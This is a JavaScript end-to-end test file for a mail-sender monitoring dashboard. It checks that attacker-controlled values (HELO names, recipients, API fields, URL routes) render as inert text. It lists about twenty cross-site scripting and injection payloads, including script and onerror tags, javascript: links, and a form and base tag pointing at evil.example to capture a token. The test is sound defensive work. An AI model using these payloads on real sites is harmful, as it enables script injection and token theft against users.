/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * hostile.mjs - what strangers can choose is shown as text: nothing of it is executed, made an element, or a link.
 *
 * First for real: a sender whose HELO and recipient are markup talks to a decoy.  Then every word of every answer
 * that somebody else may have chosen is another of 2,000 hostile strings.
 */
import { SITE, api, check, holds, open, same, tab, talk, until } from './world.mjs';

const SEEDS = ['<img src=x onerror=pwned()>', '<script>pwned()</script>', '"><svg onload=pwned()>', "';pwned();'", 'javascript:pwned()', '<iframe srcdoc="<script>parent.pwned()</script>">',
	'{{constructor.constructor("pwned()")()}}', '</title><script>pwned()</script>', '<a href="javascript:pwned()">x</a>', '&lt;img src=x onerror=pwned()&gt;', '\u202e<b>olleh', 'data:text/html,<script>pwned()</script>',
	'<math><mi xlink:href="javascript:pwned()">', '`${pwned()}`', '%3Cscript%3Epwned()%3C/script%3E', '<style>*{display:none}</style>', '\u0000<x>', '<form action=//evil.example><input name=token>', '<base href=//evil.example>', '-->\n<!--<img src=x onerror=pwned()>'];
const WRAPS = [(s, i) => `${s} ${i}`, (s, i) => `mail${i}.${s}`, (s, i) => `${i}\t${s}`, (s, i) => s.toUpperCase() + i, (s, i) => s.repeat(2) + i];
const strings = [...Array(2000).keys()].map((i) => WRAPS[i % 5](SEEDS[Math.floor(i / 5) % SEEDS.length], i));

/* Words that a sender, a DNS server or a client with a token may have chosen; those of the protocol itself stay. */
const THEIRS = new Set(['helo', 'domain', 'says', 'text', 'exchanger', 'fingerprint', 'os', 'agent', 'who', 'what', 'note', 'warning', 'why', 'detail', 'ptr', 'first_line', 'allow']);
let used = 0;
function poison(value, key) {
	if (Array.isArray(value))
		return value.map((v) => poison(v, key === 'why' ? null : key));
	if (value && typeof value === 'object')
		return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, k)]));
	return THEIRS.has(key) && (typeof value === 'string' || value === null) ? strings[used++ % strings.length] : value;
}

const clean = (page) => page.evaluate(() => ({
	pwned: window.pwnedTimes, elements: document.querySelectorAll('main img, main script, main iframe, main math, main base, main b, main style').length,
	links: [...document.querySelectorAll('a[href]')].filter((a) => !/^(https?:|#|[a-z0-9]+[a-z0-9/.]*$)/.test(a.getAttribute('href'))).length, violations: window.violations }));
const UNTOUCHED = { pwned: 0, elements: 0, links: 0, violations: [] };
const armed = async (page) => page.addInitScript(() => { window.pwnedTimes = 0; window.pwned = () => { window.pwnedTimes++; }; });

export default async function hostile(browser) {
	await check('a HELO and a recipient that are markup are shown as text', async () => {
		const { page, context } = await tab(browser);
		await armed(page);
		await talk('198.18.240.66', '<img/src=x/onerror=pwned()>', '<script>pwned()</script>.example');
		await until('what it said is stored', async () => (await api('/api/v1/senders/198.18.240.66')).said?.length > 0, 150000);
		await open(page, 'sender/198.18.240.66');
		await page.locator('.timeline code', { hasText: '<img/src=x/onerror=pwned()>' }).waitFor();
		same(await clean(page), UNTOUCHED, 'the page');
		await context.close();
	});
	await check('2,000 hostile strings in every word that is not ours execute nothing and make no element', async () => {
		const { page, context } = await tab(browser);
		await armed(page);
		await page.route('**/api/v1/**', async (route) => {
			if (route.request().url().includes('/events'))
				return route.continue();
			const answer = await route.fetch();
			return answer.ok() ? route.fulfill({ response: answer, headers: { ...answer.headers(), etag: '' }, json: poison(await answer.json(), '') }) : route.fulfill({ response: answer });
		});
		const routes = ['', 'senders', 'sender/198.18.240.66', 'sender/198.18.140.12', 'risk', 'consumers', 'ladder', 'audit', 'about'];
		for (let round = 0; used < strings.length && round < 10; round++)
			for (const route of routes) {
				await open(page, route);
				same(await clean(page), UNTOUCHED, `the page of #/${route}`);
			}
		holds(used >= strings.length, `only ${used} of them were shown`);
		await page.unrouteAll({ behavior: 'ignoreErrors' });
		await context.close();
	});
	await check('so do they in a route', async () => {
		const { page, context } = await tab(browser);
		await armed(page);
		for (const s of SEEDS) {
			await page.goto(`${SITE}/#/sender/${encodeURIComponent(s)}`);
			await page.goto(`${SITE}/#/senders/${encodeURIComponent(s)}`);
			await page.locator('main h1').waitFor();
			same(await clean(page), UNTOUCHED, `the page of ${s}`);
		}
		await context.close();
	});
}
